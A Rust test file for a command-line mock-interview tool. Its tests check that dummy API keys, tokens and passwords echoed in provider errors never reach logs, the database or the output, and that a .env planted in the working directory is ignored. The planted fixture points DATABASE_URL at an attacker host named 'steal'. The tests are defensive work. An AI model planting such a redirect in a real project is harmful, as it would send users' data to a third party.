//! Secrets of every shape never reach the logs, the database or the output: a provider that
//! echoes every kind of credential back in its errors, keys in the environment, a key in the
//! base URL's query and a password in the environment of the database tools.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stdout)] // test code

use std::path::Path;

/// Secrets, each of a shape the redactor must know.
const OPENAI_KEY: &str = "sk-proj-SECRETopenai0123456789";
const ANTHROPIC_KEY: &str = "sk-ant-api03-SECRETanthropic012345";
const GOOGLE_KEY: &str = "AIzaSyD-SECRETgoogle0123456789abcdefg";
const GROQ_KEY: &str = "gsk_SECRETgroq0123456789abcdef";
const BEARER: &str = "eyJhbGciOiJIUzI1NiJ9.SECRETbearer.sig";
const HEADER_KEY: &str = "SECRETheaderkey0123456789";
const QUERY_TOKEN: &str = "SECRETquerytoken0123";
const URL_PASSWORD: &str = "SECRETurlpassword";
const PG_PASSWORD: &str = "SECRETpgpassword";

fn echoed_body() -> String {
    format!(
        "{{\"error\":{{\"message\":\"Bearer {BEARER} x-api-key: {HEADER_KEY} {GOOGLE_KEY} {GROQ_KEY} https://h/cb?token={QUERY_TOKEN} https://admin:{URL_PASSWORD}@proxy.local/ {ANTHROPIC_KEY} Incorrect API key provided: {OPENAI_KEY}\"}}}}"
    )
}

fn all_secrets() -> [&'static str; 9] {
    [
        OPENAI_KEY,
        ANTHROPIC_KEY,
        GOOGLE_KEY,
        GROQ_KEY,
        BEARER,
        HEADER_KEY,
        QUERY_TOKEN,
        URL_PASSWORD,
        PG_PASSWORD,
    ]
}

/// Every file under `dir` (logs, the SQLite database and its WAL, media), as bytes.
fn files(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(path) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&path) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path) {
                out.push((path.display().to_string(), bytes));
            }
        }
    }
    out
}

fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for secret in all_secrets() {
        assert!(!text.contains(secret), "{what} holds {secret}");
    }
}

mod common;

use common::output_off_runtime as run;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_secret_of_any_shape_reaches_logs_database_or_output() {
    use mockint_tests::fake_llm::{FakeLlm, Reply};
    let server = FakeLlm::start().await;
    // Every provider call fails with a body that echoes credentials back.
    server.script((0..40).map(|_| Reply::Error {
        code: 401,
        body: echoed_body(),
    }));
    let dir = tempfile::tempdir().expect("temp dir");
    let mut command = common::mockint(dir.path());
    command
        .env("OPENAI_API_KEY", OPENAI_KEY)
        .env("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
        .env(
            "OPENAI_BASE_URL",
            format!("{}/v1?token={QUERY_TOKEN}", server.base),
        )
        .env("PGPASSWORD", PG_PASSWORD)
        .args([
            "interview",
            "--provider",
            "openai",
            "--problem",
            "Design a URL shortener",
            "--json",
            "--script",
        ])
        .arg(mockint_tests::fixture("script_url_shortener.txt"));
    let output = run(command).await;
    assert!(
        output.status.success(),
        "the interview goes on offline: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("notice:"),
        "the failures were shown"
    );
    assert_clean("stdout", &output.stdout);
    assert_clean("stderr", &output.stderr);
    let stored = files(dir.path());
    assert!(
        stored.iter().any(|(name, _)| name.contains("logs")),
        "the JSON logs were written"
    );
    assert!(
        stored.iter().any(|(name, _)| name.ends_with("mockint.db")),
        "the database was written"
    );
    for (name, bytes) in &stored {
        assert_clean(name, bytes);
    }
    assert!(!server.requests().is_empty(), "the provider was called");
}

#[test]
fn dotenv_files_are_read_from_the_data_directory_never_from_the_working_directory() {
    let dir = tempfile::tempdir().expect("temp dir");
    let work = dir.path().join("checkout");
    let data = dir.path().join("data");
    std::fs::create_dir_all(&work).expect("work dir");
    std::fs::create_dir_all(&data).expect("data dir");
    // A planted .env in the working directory (a cloned repository, a download folder)
    // would point the app at another database: it is not read.
    std::fs::write(
        work.join(".env"),
        "DATABASE_URL=postgres://attacker:pw@198.51.100.7:5432/steal\n",
    )
    .expect("planted .env");
    let output = common::mockint(&data)
        .current_dir(&work)
        .args(["sessions", "--json"])
        .output()
        .expect("run");
    assert!(
        output.status.success(),
        "the planted .env was not used: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    // The data directory's .env is read.
    std::fs::write(data.join(".env"), "MAX_TOKENS_PER_SESSION=\"unterminated\n").expect(".env");
    let output = common::mockint(&data)
        .current_dir(&work)
        .args(["sessions", "--json"])
        .output()
        .expect("run");
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains(".env"), "{stderr}");
}
